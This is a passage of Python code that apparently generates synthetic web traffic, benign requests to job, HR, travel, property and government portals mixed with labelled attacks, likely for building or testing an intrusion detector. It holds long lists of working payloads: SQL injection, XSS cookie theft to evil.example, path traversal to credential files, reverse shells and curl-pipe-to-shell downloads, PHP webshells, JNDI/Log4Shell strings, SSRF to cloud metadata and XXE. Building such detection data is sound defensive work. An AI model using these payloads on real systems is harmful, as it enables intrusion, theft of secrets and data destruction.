        return mkreq(r, "idp", "POST", "/saml/acs", body=body, ctype="application/x-www-form-urlencoded", browser=True, auth=False)
    req = base64.b64encode(zlib.compress(assertion.encode())[2:-4]).decode()
    return mkreq(r, "idp", "GET", "/saml/sso", qs([("SAMLRequest", req), ("RelayState", token(r, 16))]), browser=True, auth=False)


def b_oidc(r):
    if r.random() < 0.5:
        return mkreq(r, "idp", "GET", "/oauth2/authorize",
                     qs([("response_type", "code"), ("client_id", "citizen-portal"),
                         ("redirect_uri", "https://eservices.citizen.gov.example/callback"),
                         ("scope", "openid profile email address"), ("state", token(r, 22)), ("nonce", token(r, 22)),
                         ("code_challenge", token(r, 43)), ("code_challenge_method", "S256")]), browser=True, auth=False)
    return mkreq(r, "idp", "POST", "/oauth2/token", browser=False, auth=False, ctype="application/x-www-form-urlencoded",
                 body=form([("grant_type", "authorization_code"), ("code", token(r, 40)),
                            ("redirect_uri", "https://eservices.citizen.gov.example/callback"), ("code_verifier", token(r, 64))]))


def b_listing_search(r):
    lo = r.choice([150000, 250000, 300000, 450000])
    p = [("minPrice", lo), ("maxPrice", lo + r.choice([100000, 250000])), ("beds", f"{r.randint(1, 4)}+"),
         ("baths", "2+"), ("type", r.choice(["house", "condo,townhouse", "land"])), ("city", r.choice(CITIES))]
    if r.random() < 0.5:
        lat, lon = r.uniform(30, 45), r.uniform(-120, -80)
        poly = ",".join(f"{lat + dx:.5f} {lon + dy:.5f}" for dx, dy in [(0, 0), (0.05, 0.01), (0.04, 0.08), (-0.01, 0.06), (0, 0)])
        p.append(("polygon", f"POLYGON(({poly}))"))
    else:
        p.append(("bounds", f"{r.uniform(30, 31):.4f},{r.uniform(-98, -97):.4f},{r.uniform(31, 32):.4f},{r.uniform(-97, -96):.4f}"))
    if r.random() < 0.3:
        p.append(("keywords", r.choice(["pool & spa", "\"walk-in closet\"", "no HOA", "in-law suite / ADU", "40' lot"])))
    return mkreq(r, "re", "GET", "/v1/listings", qs(p), browser=True, auth=False)


def b_odata(r):
    city = r.choice(["Austin", "Round Rock", "Coeur d''Alene", "San Marcos", "O''Fallon"])
    f = r.choice([f"ListPrice gt {r.choice([300000, 450000])} and City eq '{city}'",
                  f"StandardStatus eq 'Active' and BedroomsTotal ge {r.randint(2, 5)} and contains(PublicRemarks,'pool')",
                  f"ModificationTimestamp gt {date(r, 2026)}T00:00:00Z and PropertyType eq 'Residential'",
                  f"geo.distance(Coordinates, geography'POINT(-97.74 30.27)') lt 5 and ListPrice le 750000",
                  f"(City eq '{city}' or City eq 'Austin') and not (StandardStatus eq 'Closed')"])
    p = [("$filter", f), ("$select", "ListingKey,ListPrice,City,BedroomsTotal,PublicRemarks"),
         ("$orderby", "ListPrice desc"), ("$top", r.choice([25, 100, 200]))]
    if r.random() < 0.4:
        p.append(("$expand", "Media($select=MediaURL,Order)"))
    if r.random() < 0.3:
        p.append(("$skip", r.choice([100, 200])))
    return mkreq(r, "reso", "GET", "/odata/Property", qs(p), browser=False)


def b_listing_edit(r):
    html = r.choice([
        "<p>Charming <strong>3-bed</strong> bungalow in Hyde Park &ndash; walk to UT!</p><ul><li>New roof (2024)</li><li>Chef's kitchen w/ gas range</li></ul>",
        "<h2>Open House Sat 1&ndash;4pm</h2><p>Don't miss this <em>move-in ready</em> condo. HOA covers water &amp; trash.</p><p><a href=\"https://tour.example.com/3d/88412\" target=\"_blank\" rel=\"noopener\">3D tour</a></p>",
        "<p style=\"text-align: center;\"><span style=\"color: #2e7d32;\">Price reduced!</span></p><p>40'x120' lot, 2-car garage, 1,850 sq ft.</p><img src=\"https://cdn.homefinder.example/p/123/1.jpg\" alt=\"Front view\" width=\"600\">",
        "<p>Investor special: 4 units @ $1,150/mo each. Cap rate ~7%.</p><table><tr><td>Unit</td><td>Rent</td></tr><tr><td>#1</td><td>$1,150</td></tr></table>"])
    body = jdump({"listingId": f"MLS{r.randint(1000000, 9999999)}", "publicRemarks": html,
                  "price": r.randint(200, 900) * 1000, "status": "Active"})
    return mkreq(r, "re", "PUT", f"/v1/agent/listings/{r.randint(10000, 99999)}", body=body, browser=True)


def b_mortgage(r):
    p = [("price", r.randint(200, 900) * 1000), ("down", r.choice(["20%", "60000", "3.5%"])), ("rate", r.choice(["6.125", "5.875", "7.0"])),
         ("term", r.choice([15, 30])), ("taxes", r.randint(3000, 9000)), ("insurance", 1200), ("hoa", r.choice([0, 150, 325]))]
    if r.random() < 0.5:
        return mkreq(r, "mortgage", "GET", "/api/calc/payment", qs(p), browser=True, auth=False)
    return mkreq(r, "mortgage", "POST", "/api/calc/amortization", body=jdump(dict(p)), browser=True, auth=False)


def b_contact_agent(r):
    fn, ln = name(r)
    msg = r.choice(["Hi! Is the property at 12 O'Neill Rd. still available? We'd like to see it this weekend.",
                    "What's the HOA fee & is there a pet limit (2 dogs, <50 lbs)?",
                    "Pre-approved up to $450k -- would the seller consider $415,000?",
                    "Could you send the disclosure docs? Thx :-)"])
    return mkreq(r, "re", "POST", f"/v1/listings/{r.randint(10000, 99999)}/inquiries", browser=True, auth=False,
                 ctype="application/x-www-form-urlencoded",
                 body=form([("name", f"{fn} {ln}"), ("email", f"{fn.lower()}@example.net"), ("phone", "512-555-0117"), ("message", msg)]))


def b_redirect_login(r):
    nxt = r.choice(["/jobs/saved?sort=date", "/portal/cases/GOV-2027-118822#documents", "/trips/ABC123",
                    "https://jobs.hirewell.com/apply/88123?step=2"])
    return mkreq(r, r.choice(["jobs", "gov", "travel"]), "GET", "/login", qs([("next", nxt)]), browser=True, auth=False)


# ------------------------------------------------------------ dev-content


DEV_SNIPPETS = [
    "SELECT e.name, d.dept FROM employees e JOIN departments d ON e.dept_id = d.id WHERE e.active = 1;",
    "kubectl rollout restart deployment/api -n prod && kubectl get pods -l app=api",
    "docker run --rm -v $(pwd):/src -w /src node:20 npm ci && npm test",
    "for f in *.log; do grep -c ERROR \"$f\"; done | sort -n | tail -5",
    "const users = await db.query('SELECT * FROM users WHERE id = $1', [id]);",
    "<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script> used for the KPI dashboard",
    "terraform plan -var-file=prod.tfvars -out=tfplan && terraform apply tfplan",
    "public async Task<IActionResult> Get(int id) => Ok(await _repo.FindAsync(id));",
    "std::vector<int> v{1,2,3}; std::sort(v.begin(), v.end(), std::greater<>());",
    "curl -sS -H 'Authorization: Bearer $TOKEN' https://api.example.com/v1/health | jq .status",
    "awk -F, '{sum += $4} END {print sum}' payroll.csv",
    "UPDATE accounts SET balance = balance - 100 WHERE id = 42; -- wrapped in a transaction",
    "import os; print(os.environ.get('HOME'))",
    "{{ range .Values.ingress.hosts }}- host: {{ .host }}{{ end }}",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "SELECT COUNT(*) FROM applications GROUP BY status HAVING COUNT(*) > 10 ORDER BY 1 DESC",
]


def d_resume_code(r):
    fn, ln = name(r)
    snips = r.sample(DEV_SNIPPETS, 2)
    doc = {"name": f"{fn} {ln}", "headline": "Backend engineer – C#, .NET, SQL, shell scripting",
           "projects": [{"title": "Internal tooling", "description": f"Wrote automation such as: {snips[0]}"},
                        {"title": "Open source", "description": f"Example from my blog: {snips[1]}"}],
           "skills": ["SQL", "C#", "C++", ".NET", "Node.js", "shell scripting", "Bash", "PowerShell"]}
    return mkreq(r, "ats", "POST", f"/api/v1/candidates/{r.randint(100000, 999999)}/profile", body=jdump(doc), browser=True)


def d_hr_sql(r):
    sql = r.choice([
        "SELECT department, AVG(salary) AS avg_sal FROM employees WHERE hire_date >= '2025-01-01' GROUP BY department ORDER BY avg_sal DESC",
        "SELECT e.employee_id, e.last_name, t.hours FROM employees e LEFT JOIN time_off t ON t.employee_id = e.employee_id WHERE t.type = 'SICK' AND t.start_date BETWEEN '2026-01-01' AND '2026-12-31'",
        "SELECT cost_center, SUM(gross) - SUM(deductions) AS net FROM payroll WHERE period = '2027-03' GROUP BY cost_center UNION ALL SELECT 'TOTAL', SUM(gross) - SUM(deductions) FROM payroll WHERE period = '2027-03'",
        "WITH tenure AS (SELECT id, DATEDIFF(day, start_date, GETDATE()) / 365.0 AS yrs FROM employees) SELECT CASE WHEN yrs < 1 THEN '<1' WHEN yrs < 5 THEN '1-5' ELSE '5+' END AS band, COUNT(*) FROM tenure GROUP BY 1",
        "SELECT name FROM candidates WHERE last_name LIKE 'O''%' AND status IN ('interview','offer')"])
    body = jdump({"reportName": f"Q{r.randint(1, 4)} headcount analysis", "dialect": r.choice(["postgres", "tsql"]), "query": sql, "limit": 5000})
    return mkreq(r, "hris", "POST", "/api/reports/sql/run", body=body, browser=True)


def d_devops_job(r):
    cmds = r.sample(DEV_SNIPPETS, 3)
    desc = ("<h3>About the role</h3><p>We run 200+ services on Kubernetes (EKS) and need an SRE who is comfortable with:</p><ul>"
            + "".join(f"<li><code>{c.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</code></li>" for c in cmds)
            + "</ul><p>Salary: €70k–90k + on-call allowance.</p>")
    body = jdump({"title": "DevOps / Site Reliability Engineer", "location": "Dublin (hybrid)", "descriptionHtml": desc,
                  "tags": ["kubernetes", "terraform", "bash", "ci/cd"]})
    return mkreq(r, "jobs", "POST", "/api/v2/employer/jobs", body=body, browser=True)


def d_assessment(r):
    lang, code = r.choice([
        ("python", "def fizzbuzz(n):\n    return ['FizzBuzz' if i % 15 == 0 else 'Fizz' if i % 3 == 0 else 'Buzz' if i % 5 == 0 else str(i) for i in range(1, n + 1)]"),
        ("cpp", "#include <iostream>\nint main() { std::string s; std::getline(std::cin, s); std::cout << s.size() << std::endl; return 0; }"),
        ("sql", "SELECT candidate_id FROM scores WHERE score > (SELECT AVG(score) FROM scores);"),
        ("bash", "#!/bin/bash\nset -euo pipefail\ncat input.txt | tr ' ' '\\n' | sort | uniq -c | sort -rn | head -10"),
        ("javascript", "function debounce(fn, ms) { let t; return (...a) => { clearTimeout(t); t = setTimeout(() => fn(...a), ms); }; }")])
    return mkreq(r, "ats", "POST", f"/api/v1/assessments/{r.randint(1000, 9999)}/submissions", browser=True,
                 body=jdump({"language": lang, "source": code}))


def d_search_tech(r):
    q = r.choice(['"SELECT * FROM" tutorial SQL trainer', "bash script || powershell", "<template> vue.js developer",
                  "C# LINQ \"Where(x => x.Id == 1)\"", "jq '.items[]' kubernetes", "regex ^[A-Z]{3}$ validation"])
    return mkreq(r, "jobs", "GET", "/api/v2/jobs/search", qs([("q", q), ("page", 1)]), browser=True, auth=False)


BENIGN = [
    ("job_search", 40, b_job_search), ("resume_upload", 25, b_resume_upload), ("parsed_resume", 20, b_parsed_resume),
    ("cover_letter", 20, b_cover_letter), ("employee", 20, b_employee), ("timeoff", 15, b_timeoff),
    ("orgchart", 10, b_orgchart), ("directory", 15, b_directory), ("payroll_csv", 15, b_payroll_csv),
    ("payroll_export", 10, b_payroll_export), ("interview", 10, b_interview), ("offer", 10, b_offer),
    ("profile_import", 10, b_profile_import),
    ("flight_search", 30, b_flight_search), ("booking", 20, b_booking), ("pnr", 15, b_pnr), ("seatmap", 12, b_seatmap),
    ("hotel", 20, b_hotel), ("ndc", 12, b_ndc), ("edifact", 8, b_edifact), ("loyalty", 8, b_loyalty),
    ("tax_form", 15, b_tax_form), ("gov_upload", 12, b_gov_upload), ("appointment", 15, b_appointment),
    ("esign_callback", 10, b_esign_callback), ("saml", 10, b_saml), ("oidc", 10, b_oidc),
    ("listing_search", 30, b_listing_search), ("odata", 20, b_odata), ("listing_edit", 15, b_listing_edit),
    ("mortgage", 15, b_mortgage), ("contact_agent", 12, b_contact_agent), ("redirect_login", 10, b_redirect_login),
]
DEV = [("resume_code", 12, d_resume_code), ("hr_sql", 10, d_hr_sql), ("devops_job", 10, d_devops_job),
       ("assessment", 10, d_assessment), ("search_tech", 8, d_search_tech)]


# ----------------------------------------------------------------- attacks
# Each attack family: (category, name, payloads, placer). A placer puts one
# payload into one of the domain's injection points; the generator cycles the
# placers over the payloads so that no payload is repeated verbatim.


def p_jobsearch(r, p):
    return mkreq(r, "jobs", "GET", "/api/v2/jobs/search", qs([("q", p), ("location", r.choice(CITIES)), ("page", 1)]), browser=True, auth=False)


def p_jobsearch_loc(r, p):
    return mkreq(r, "jobs", "GET", "/api/v2/jobs/search", qs([("q", "nurse"), ("location", p), ("radius", 25)]), browser=True, auth=False)


def p_sort(r, p):
    return mkreq(r, "jobs", "GET", "/api/v2/jobs/search", qs([("q", "data analyst"), ("sort", p)]), browser=True, auth=False)


def p_pnr(r, p):
    return mkreq(r, "travel", "GET", "/v2/bookings/retrieve", qs([("pnr", pnr(r)), ("lastName", p)]), browser=True, auth=False)


def p_flight(r, p):
    return mkreq(r, "travel", "GET", "/v2/flights/search", qs([("origin", p), ("destination", r.choice(IATA)), ("departDate", date(r))]), browser=True, auth=False)


def p_employee_json(r, p):
    return mkreq(r, "hris", "PATCH", f"/api/employees/E{r.randint(10000, 99999)}", body=jdump({"department": p, "title": "Analyst"}), browser=True)


def p_listing_price(r, p):
    return mkreq(r, "re", "GET", "/v1/listings", qs([("minPrice", p), ("maxPrice", 500000), ("city", "Austin")]), browser=True, auth=False)


def p_tax_form(r, p):
    return mkreq(r, "tax", "POST", "/forms/1040/step/3", ctype="application/x-www-form-urlencoded", browser=True,
                 body=form([("taxpayer_id", p), ("year", "2026"), ("filing_status", "single")]))


def p_report_filter(r, p):
    return mkreq(r, "payroll", "GET", "/api/v1/exports/payslips", qs([("cost_center", p), ("format", "csv")]), browser=True)


def p_odata(r, p):
    return mkreq(r, "reso", "GET", "/odata/Property", qs([("$filter", p), ("$top", 50)]), browser=False)


SQLI = [
    "\"data engineer\" AND 1=1 UNION SELECT username,password_hash,NULL FROM users--",
    "' OR '1'='1' -- ",
    "nurse' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#",
    "python') AND SLEEP(5) AND ('a'='a",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "Austin'; DROP TABLE applicants;--",
    "x'/**/UnIoN/**/SeLeCt/**/ssn,salary,3/**/FrOm/**/employees--",
    "date:desc,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "salary, IF(ASCII(SUBSTRING((SELECT password FROM admins LIMIT 1),1,1))>64,SLEEP(3),0)",
    "O'Connor' AND extractvalue(1,concat(0x7e,(select database())))-- ",
    "D'Souza'||(SELECT pg_sleep(10))||'",
    "1;WAITFOR DELAY '0:0:5'--",
    "JFK' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "300000 OR 1=1",
    "300000) UNION SELECT ListingKey,OwnerSSN FROM Owners--",
    "123-45-6789' OR 'x'='x",
    "CC-100' UNION SELECT iban,net,NULL,NULL FROM payroll_accounts WHERE '1'='1",
    "ListPrice gt 0 or 1 eq 1; SELECT * FROM Member--",
    "City eq 'Austin' or ''='' union select password from Member--",
    "admin'--",
    "' or 1=1 limit 1 offset 0 #",
    "1' ORDER BY 12-- -",
    "Müller' AND 1=(SELECT COUNT(*) FROM all_users WHERE ROWNUM=1 AND UTL_INADDR.GET_HOST_NAME('x')=1)--",
    "1 AND updatexml(1,concat(0x3a,(SELECT user())),1)",
    "relevance;exec master..xp_cmdshell 'whoami'--",
    "'; INSERT INTO admins(user,pass) VALUES('eve','x');--",
    "1' and substr((select group_concat(email) from candidates),1,1)='a",
    "-1 union select 1,load_file('/etc/passwd'),3",
    "Scala' AnD bEnChMaRk(5000000,MD5(1))#",
    "x' OR username LIKE '%admin%' --",
    "1)) OR ((1=1",
    "';SELECT pg_read_file('/etc/passwd');--",
    "x' oR 'a' LiKe 'a",
    "nurse\" or \"\"=\"",
    "1 or 2>1 -- pto",
    "1; select * from employees into outfile '/var/www/html/e.txt'",
    "Dublin' UNION SELECT @@version,NULL-- ",
    "' HAVING 1=1 --",
    "'+(select*from(select(sleep(8)))a)+'",
    "999999.9' union all select 0x31,0x32,0x33 and '0'='0",
    "name ASC, (select 1 from dual where 1=(select 1 from users where name='admin' and ascii(pass)>50))",
    "1' AND 'a'<>'b' UNION SELECT token FROM sessions--",
]

XSS = [
    "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "Dear HR,<svg/onload=eval(atob('YWxlcnQoMSk='))>",
    "\"><iframe src=javascript:alert`1`></iframe>",
    "<a href=\"jAvAsCrIpT:alert(1)\">My portfolio</a>",
    "<body onload=location='//evil.example/'+document.cookie>",
    "<details open ontoggle=confirm(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<p>Sunny 3-bed</p><script src=//evil.example/x.js></script>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "'-alert(1)-'",
    "\";alert(String.fromCharCode(88,83,83));//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "<marquee onstart=alert(1)>hot deal</marquee>",
    "<embed src=javascript:alert(1)>",
    "</textarea><script>new Image().src='//x.evil/'+localStorage.token</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=1 oNeRrOr=prompt(1)>",
    "<form action=javascript:alert(1)><button>Apply</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import 'javascript:alert(1)';</style>",
    "{{constructor.constructor('alert(1)')()}}",
    "<x onpointerover=alert(1)>hover me",
    "<a href=\"data:text/html,<script>alert(1)</script>\">CV</a>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<img srcset=\",,,,x\" onerror=alert(1)>",
    "<audio src=x onerror=top['al'+'ert'](1)>",
    "<svg><script xlink:href=data:,alert(1)></script>",
]


def p_cover(r, p):
    body = form([("application_id", r.randint(1000, 9999)), ("cover_letter", f"Dear Hiring Manager, I'd love to join. {p}")])
    return mkreq(r, "ats", "POST", "/api/v1/applications/cover-letter", body=body, ctype="application/x-www-form-urlencoded", browser=True)


def p_listing_html(r, p):
    return mkreq(r, "re", "PUT", f"/v1/agent/listings/{r.randint(10000, 99999)}", browser=True,
                 body=jdump({"publicRemarks": f"<p>Charming bungalow.</p>{p}", "price": 450000}))


def p_timeoff_note(r, p):
    return mkreq(r, "hris", "POST", "/api/time-off/requests", browser=True,
                 body=jdump({"employeeId": "E10231", "type": "PTO", "start": "2027-03-01", "end": "2027-03-02", "note": p}))


def p_inquiry(r, p):
    return mkreq(r, "re", "POST", f"/v1/listings/{r.randint(10000, 99999)}/inquiries", browser=True, auth=False,
                 ctype="application/x-www-form-urlencoded", body=form([("name", "Pat"), ("email", "p@example.com"), ("message", p)]))


def p_profile_name(r, p):
    return mkreq(r, "ats", "POST", f"/api/v1/candidates/{r.randint(100000, 999999)}/profile", browser=False,
                 body=jdump({"candidate": {"name": p, "email": "x@example.org"}, "skills": ["SQL"]}))


def p_hotel_q(r, p):
    return mkreq(r, "hotel", "GET", "/v1/hotels/search", qs([("q", p), ("checkIn", "2027-05-01")]), browser=True, auth=False)


LFI = [
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/hosts",
    "..\\..\\..\\windows\\win.ini", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../../proc/self/environ", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "/etc/passwd%00.pdf", "../../../../../../app/config/database.yml", "..%252f..%252f..%252fetc%252fpasswd",
    "file:///etc/passwd", "../../../../root/.ssh/id_rsa", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "../../../../var/log/nginx/access.log", "/proc/self/cmdline", "..;/..;/..;/WEB-INF/web.xml",
    "../../.kube/config", "resume/../../../../../home/app/.aws/credentials", "%5c..%5c..%5c..%5cboot.ini",
    "../../../../../etc/kubernetes/admin.conf",
]


def p_resume_fname(r, p):
    body, ct = multipart(r, [("job_id", "48812")], [("resume", p, "application/pdf", fake_pdf(r))])
    return mkreq(r, "ats", "POST", "/api/v1/applications", body=body, ctype=ct, browser=True, auth=False)


def p_doc_download(r, p):
    return mkreq(r, "gov", "GET", "/api/cases/documents/download", qs([("file", p)]), browser=True)


def p_template(r, p):
    return mkreq(r, "ats", "GET", "/api/v1/offers/render", qs([("template", p), ("candidate", r.randint(1000, 9999))]), browser=True)


def p_export_path(r, p):
    return mkreq(r, "payroll", "GET", f"/api/v1/exports/download", qs([("path", p)]), browser=False)


def p_raw_path(r, p):
    return mkreq(r, "gov", "GET", "/static/forms/" + p, browser=True, auth=False)


RFI = [
    "http://evil.example/shell.txt?", "https://attacker.example/r57.php", "ftp://203.0.113.9/payload.txt",
    "http://198.51.100.23/c99.txt%00", "https://pastebin.com/raw/aB3dE9xQ?", "\\\\203.0.113.7\\share\\evil.php",
    "http://evil.example/offer.tpl?x=", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
]


def p_lang(r, p):
    return mkreq(r, "gov", "GET", "/portal/index.php", qs([("lang", p), ("page", "home")]), browser=True, auth=False)


RCE = [
    "resume.pdf; curl http://203.0.113.5/x.sh | sh", "cv.docx`id`", "$(wget -qO- http://evil.example/k|bash).pdf",
    "x.pdf && cat /etc/passwd", "a.pdf|nc -e /bin/sh 203.0.113.5 4444", "cv.pdf%0Aid",
    "report.csv; bash -i >& /dev/tcp/198.51.100.4/443 0>&1", "docx';python3 -c 'import os;os.system(\"id\")';'",
    "png ${IFS}&&${IFS}uname${IFS}-a", "letter.pdf || ping -c 3 evil.example", "x;/???/c?t /e??/p??swd",
    "pdf;powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "a$(sleep 10)b.docx",
    "cv.pdf & certutil -urlcache -split -f http://evil.example/a.exe a.exe",
    "out.pdf\ncurl evil.example/$(whoami)", "x.pdf;{cat,/etc/shadow}", "';exec('/bin/sh -c id');'",
    "--outdir /tmp;touch /tmp/pwned", "cv.pdf | base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh",
    "-o ProxyCommand=sh -c 'id>/tmp/x'", "|| wget http://203.0.113.8/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
    "a.pdf;c''at /etc/pa''sswd", "`perl -e 'print \"x\"'`", "x.pdf; rm -rf / --no-preserve-root",
    "cv.doc && whoami #",
]


def p_convert(r, p):
    return mkreq(r, "ats", "POST", "/api/v1/documents/convert", browser=False,
                 body=jdump({"source": p, "target": "pdf", "engine": "libreoffice"}))


def p_convert_form(r, p):
    return mkreq(r, "ats", "POST", "/api/v1/documents/thumbnail", ctype="application/x-www-form-urlencoded", browser=True,
                 body=form([("filename", p), ("size", "200x200")]))


def p_ping(r, p):
    return mkreq(r, "hris", "GET", "/api/admin/diagnostics/ping", qs([("host", "ldap.peoplegrid.internal" + p if p[0] in ";|&`$\n" else p)]), browser=True)


PHP = [
    "<?php system($_GET['cmd']); ?>", "<?=`$_POST[x]`?>", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "php://filter/convert.base64-encode/resource=index.php", "php://input", "expect://id",
    "phar://uploads/cv.jpg/test.txt", "<?php eval(base64_decode('ZWNobyAxOw==')); ?>",
    "a:2:{i:0;O:12:\"PayrollCache\":1:{s:3:\"cmd\";s:2:\"id\";}i:1;i:2;}", "zip://uploads/resume.zip%23shell.php",
    "<?php @assert($_REQUEST['a']); ?>",
]


def p_php_upload(r, p):
    body, ct = multipart(r, [("case_id", "GOV-2027-118822")], [("document", "passport.php.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0JFIF " + p)])
    return mkreq(r, "gov", "POST", "/api/cases/documents", body=body, ctype=ct, browser=True)


def p_php_cookie(r, p):
    return mkreq(r, "jobs", "GET", "/jobs/saved", browser=True, auth=False,
                 extra=[["Cookie", "prefs=" + enc(p) + "; session=" + token(r, 32)]])


JAVA = [
    "${jndi:ldap://203.0.113.10:1389/a}", "${${lower:j}ndi:${lower:r}mi://evil.example/x}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oast.example}", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.2/o}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x.evil.example/Exploit}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://e.example/a}",
    "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
    "${T(java.lang.Runtime).getRuntime().exec('curl evil.example')}",
    "#{session.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.3:1389/Obj\",\"autoCommit\":true}",
    "<java.beans.XMLDecoder><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java.beans.XMLDecoder>",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${jNdI:LdAp://evil.example:389/#Payroll}",
    "${jndi:rmi://[::ffff:cb00:710a]:1099/x}", "${${upper:j}ndi:iiop://evil.example/y}",
    "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/i.sql'\"}]",
    "java.lang.Runtime.getRuntime().exec(\"sh -c id\")", "${jndi:ldaps://evil.example/${sys:java.version}}",
]


def p_hr_field(r, p):
    return mkreq(r, "hris", "PUT", f"/api/employees/E{r.randint(10000, 99999)}", browser=True,
                 body=jdump({"firstName": "Ana", "lastName": p, "title": "Recruiter"}))


def p_ua(r, p):
    if p.startswith("class."):
        return p_java_form(r, p)
    req = mkreq(r, "ats", "GET", "/api/v1/jobs/48812", browser=True, auth=False)
    req["headers"][1][1] = p
    return req


def p_xapi(r, p):
    return mkreq(r, "hris", "GET", "/api/org/E10001/reports", browser=False, extra=[["X-Api-Version", p]])


def p_java_json(r, p):
    body = p if p.startswith(("{", "[")) else jdump({"employeeId": "E10444", "note": p})
    return mkreq(r, "hris", "POST", "/api/time-off/requests", body=body, browser=False)


def p_java_form(r, p):
    if p.startswith("class."):
        return mkreq(r, "ats", "POST", "/api/v1/applications/submit.action", ctype="application/x-www-form-urlencoded",
                     browser=True, auth=False, body=p + "&firstName=Lee")
    return mkreq(r, "ats", "POST", "/api/v1/applications/submit.action", ctype="application/x-www-form-urlencoded", browser=True,
                 auth=False, body=form([("firstName", "Lee"), ("referrer", p)]))


SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/user-data", "http://0xA9FEA9FE/latest/meta-data/", "http://0251.0376.0251.0376/",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "http://127.0.0.1:10255/pods",
    "http://localhost:2379/v2/keys/?recursive=true", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "http://[::1]:8080/actuator/env", "http://127.1:9200/_cat/indices", "dict://10.0.0.5:11211/stats",
    "http://169.254.169.254.nip.io/latest/meta-data/", "http://evil.example@169.254.169.254/", "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "http://payroll.peoplegrid.svc.cluster.local:8080/admin/export", "http://10.96.0.1:443/api", "http://0/server-status",
    "http://metadata/computeMetadata/v1/?recursive=true", "http://100.100.100.200/latest/meta-data/", "http://[0:0:0:0:0:ffff:169.254.169.254]/",
    "ldap://127.0.0.1:389/dc=internal", "http://localhost:15000/config_dump", "http://192.168.0.1/cgi-bin/admin",
]


def p_import(r, p):
    return mkreq(r, "ats", "POST", "/api/v1/candidates/import", body=jdump({"url": p, "consent": True}), browser=True)


def p_webhook(r, p):
    return mkreq(r, "ats", "POST", "/api/v1/integrations/webhooks", browser=False,
                 body=jdump({"event": "application.created", "target_url": p, "secret": token(r, 20)}))


def p_esign_cb(r, p):
    return mkreq(r, "esign", "POST", "/api/envelopes", browser=False,
                 body=jdump({"documents": ["DS-82.pdf"], "callbackUrl": p, "signer": {"email": "c@example.com"}}))


def p_photo(r, p):
    return mkreq(r, "re", "GET", "/v1/media/proxy", qs([("src", p), ("w", 800)]), browser=True, auth=False)


XXE_DTD = [
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    '<!DOCTYPE r [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://evil.example/?%a;\'>">%b;%c;]>',
